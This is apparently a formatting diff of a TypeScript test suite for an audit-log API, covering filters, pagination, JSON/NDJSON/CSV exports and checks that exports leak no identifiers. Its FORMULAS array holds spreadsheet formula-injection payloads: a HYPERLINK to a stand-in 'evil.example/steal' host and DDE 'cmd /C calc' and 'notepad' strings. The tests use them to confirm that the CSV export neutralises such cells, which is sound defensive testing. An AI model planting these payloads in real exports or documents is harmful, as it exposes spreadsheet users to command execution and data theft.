@@ -14,12 +14,27 @@ const iso = (t: number) => new Date(t).toISOString();
 
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/steal","Click for the ticket")',
-  '+SUM(1+1)*cmd|\' /C calc\'!A0 reopened ticket',
-  '-2+3+cmd|\' /C notepad\'!A0 for the ticket',
+  "+SUM(1+1)*cmd|' /C calc'!A0 reopened ticket",
+  "-2+3+cmd|' /C notepad'!A0 for the ticket",
   '@SUM(A1:A9) customer asked for a copy of data',
 ];
 
-const ENTRY_KEYS = ['action', 'actor', 'at', 'detail', 'hash', 'justification', 'outcome', 'policy_version', 'prev_hash', 'purpose', 'request_id', 'roles', 'seq', 'subjects'];
+const ENTRY_KEYS = [
+  'action',
+  'actor',
+  'at',
+  'detail',
+  'hash',
+  'justification',
+  'outcome',
+  'policy_version',
+  'prev_hash',
+  'purpose',
+  'request_id',
+  'roles',
+  'seq',
+  'subjects',
+];
 
 describe('GET /v1/audit: filters, pages, exports', () => {
   let gw: TestGateway;
@@ -56,7 +71,10 @@ describe('GET /v1/audit: filters, pages, exports', () => {
     await tokens();
     expect((await reid(alice, a1.pseudonym, FORMULAS[0]!)).status).toBe(201);
     expect((await reid(alice, a2.pseudonym, 'short')).status).toBe(422);
-    expect((await rec.postJson('/v1/dsr/access', alice, { reference: 'DSR-TEST-0001', identifier: { type: 'email', value: a1.identity.normalized['email'] } })).status).toBe(202);
+    expect(
+      (await rec.postJson('/v1/dsr/access', alice, { reference: 'DSR-TEST-0001', identifier: { type: 'email', value: a1.identity.normalized['email'] } }))
+        .status,
+    ).toBe(202);
     // hour 2: bob
     gw.advance(HOUR);
     await tokens();
@@ -66,7 +84,10 @@ describe('GET /v1/audit: filters, pages, exports', () => {
     await gw.refusals.flush(true); // refused tokens are one entry per client address and minute
     // caller-controlled text in other cells: a token subject and a refused purpose
     expect((await rec.get('/v1/audit?limit=1', await gw.mint(['dpo'], { sub: '=2+5' }))).status).toBe(200);
-    expect((await rec.postJson('/v1/reidentifications', bob, { pseudonyms: [a1.pseudonym], fields: ['email'], purpose: '-2+3', justification: JUSTIFICATION })).status).toBe(422);
+    expect(
+      (await rec.postJson('/v1/reidentifications', bob, { pseudonyms: [a1.pseudonym], fields: ['email'], purpose: '-2+3', justification: JUSTIFICATION }))
+        .status,
+    ).toBe(422);
     // hour 3
     gw.advance(HOUR);
     await tokens();
@@ -80,9 +101,20 @@ describe('GET /v1/audit: filters, pages, exports', () => {
     expect(Object.keys(e).sort()).toEqual(ENTRY_KEYS);
     const row = (await auditRows(gw)).find((r) => r.seq === e.seq)!;
     expect(e).toEqual({
-      seq: row.seq, at: iso(CLOCK + HOUR), actor: { issuer: 'dev', subject: 'alice' }, roles: ['dpo'], action: 'reidentification.request',
-      outcome: 'granted', purpose: 'customer_service', justification: FORMULAS[0], subjects: [a1.pseudonym], policy_version: gw.policies.version,
-      request_id: row.request_id, detail: JSON.parse(row.detail), prev_hash: row.prev_hash, hash: row.hash,
+      seq: row.seq,
+      at: iso(CLOCK + HOUR),
+      actor: { issuer: 'dev', subject: 'alice' },
+      roles: ['dpo'],
+      action: 'reidentification.request',
+      outcome: 'granted',
+      purpose: 'customer_service',
+      justification: FORMULAS[0],
+      subjects: [a1.pseudonym],
+      policy_version: gw.policies.version,
+      request_id: row.request_id,
+      detail: JSON.parse(row.detail),
+      prev_hash: row.prev_hash,
+      hash: row.hash,
     });
     expect(e.request_id).toMatch(/^[0-9a-f-]{36}$/);
   });
@@ -104,7 +136,12 @@ describe('GET /v1/audit: filters, pages, exports', () => {
     // combined: every filter must hold
     s = (await lastRowSeq()) + 1;
     const combined = await entries(`actor=dev:alice&action=reidentification.request&outcome=denied&subject=${a2.pseudonym}`);
-    expect(seqs(combined)).toEqual(await expected((r) => r.actor_subject === 'alice' && r.action === 'reidentification.request' && r.outcome === 'denied' && r.subjects.includes(a2.pseudonym), s));
+    expect(seqs(combined)).toEqual(
+      await expected(
+        (r) => r.actor_subject === 'alice' && r.action === 'reidentification.request' && r.outcome === 'denied' && r.subjects.includes(a2.pseudonym),
+        s,
+      ),
+    );
     expect(combined).toHaveLength(1);
     expect(await entries('actor=dev:nobody')).toEqual([]);
     expect(await entries('actor=dev')).toEqual([]);
@@ -129,7 +166,16 @@ describe('GET /v1/audit: filters, pages, exports', () => {
   });
 
   it('invalid filters are refused with 422', async () => {
-    for (const q of ['from=yesterday', 'to=2026-13-01T00:00:00Z', 'outcome=maybe', 'cursor=abc', 'limit=0', 'limit=10001', 'format=xml', 'fields=justification']) {
+    for (const q of [
+      'from=yesterday',
+      'to=2026-13-01T00:00:00Z',
+      'outcome=maybe',
+      'cursor=abc',
+      'limit=0',
+      'limit=10001',
+      'format=xml',
+      'fields=justification',
+    ]) {
       const a = await rec.get(`/v1/audit?${q}`, alice);
       expect(a.status, `${q}: ${a.text}`).toBe(422);
       expect(a.headers.get('content-type')).toMatch(/^application\/problem\+json/);
@@ -164,7 +210,12 @@ describe('GET /v1/audit: filters, pages, exports', () => {
     let cursor = '';
     for (let i = 0; i < 20; i++) {
       const a = await list(`action=reidentification.request&limit=2&format=ndjson${cursor ? `&cursor=${cursor}` : ''}`);
-      got.push(...a.text.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as AuditJson).seq));
+      got.push(
+        ...a.text
+          .split('\n')
+          .filter(Boolean)
+          .map((l) => (JSON.parse(l) as AuditJson).seq),
+      );
       cursor = a.headers.get('x-next-cursor') ?? '';
       if (!cursor) break;
     }
@@ -190,7 +241,23 @@ describe('GET /v1/audit: filters, pages, exports', () => {
     const a = await list('action=reidentification.request&outcome=granted&format=csv');
     expect(a.headers.get('content-type')).toMatch(/^text\/csv/);
     const rows = parseCsv(a.text, { columns: true, relax_quotes: false }) as Record<string, string>[];
-    expect(Object.keys(rows[0]!)).toEqual(['seq', 'at', 'actor_issuer', 'actor_subject', 'roles', 'action', 'outcome', 'purpose', 'justification', 'subjects', 'policy_version', 'request_id', 'detail', 'prev_hash', 'hash']);
+    expect(Object.keys(rows[0]!)).toEqual([
+      'seq',
+      'at',
+      'actor_issuer',
+      'actor_subject',
+      'roles',
+      'action',
+      'outcome',
+      'purpose',
+      'justification',
+      'subjects',
+      'policy_version',
+      'request_id',
+      'detail',
+      'prev_hash',
+      'hash',
+    ]);
     expect(rows.map((r) => Number(r['seq']))).toEqual(seqs(json));
     const byJustification = new Map(rows.map((r) => [r['justification'], r]));
     for (const f of FORMULAS) {
@@ -212,7 +279,16 @@ describe('GET /v1/audit: filters, pages, exports', () => {
     for (const x of all) for (const [col, cell] of Object.entries(x)) expect(cell, `${col} of seq ${x['seq']}`).not.toMatch(/^[=+\-@\t\r]/);
     const r = rows[0]!;
     const e = json[0]!;
-    expect(r).toMatchObject({ seq: String(e.seq), at: e.at, actor_issuer: e.actor.issuer, actor_subject: e.actor.subject, roles: 'dpo', subjects: e.subjects.join(' '), hash: e.hash, prev_hash: e.prev_hash });
+    expect(r).toMatchObject({
+      seq: String(e.seq),
+      at: e.at,
+      actor_issuer: e.actor.issuer,
+      actor_subject: e.actor.subject,
+      roles: 'dpo',
+      subjects: e.subjects.join(' '),
+      hash: e.hash,
+      prev_hash: e.prev_hash,
+    });
     expect(JSON.parse(r['detail']!)).toEqual(e.detail);
   });
 
@@ -231,7 +307,10 @@ describe('GET /v1/audit: filters, pages, exports', () => {
     const needles = ids.flatMap((i) => i.needles);
     for (const format of ['json', 'ndjson', 'csv']) {
       const a = await list(`format=${format}&limit=10000`);
-      expect(scan(a.text, needles).map((h) => h.label), format).toEqual([]);
+      expect(
+        scan(a.text, needles).map((h) => h.label),
+        format,
+      ).toEqual([]);
     }
     // the re-identification and access answers did carry them: the scan is able to find them
     expect(rec.leaks(ids).length).toBeGreaterThan(0);
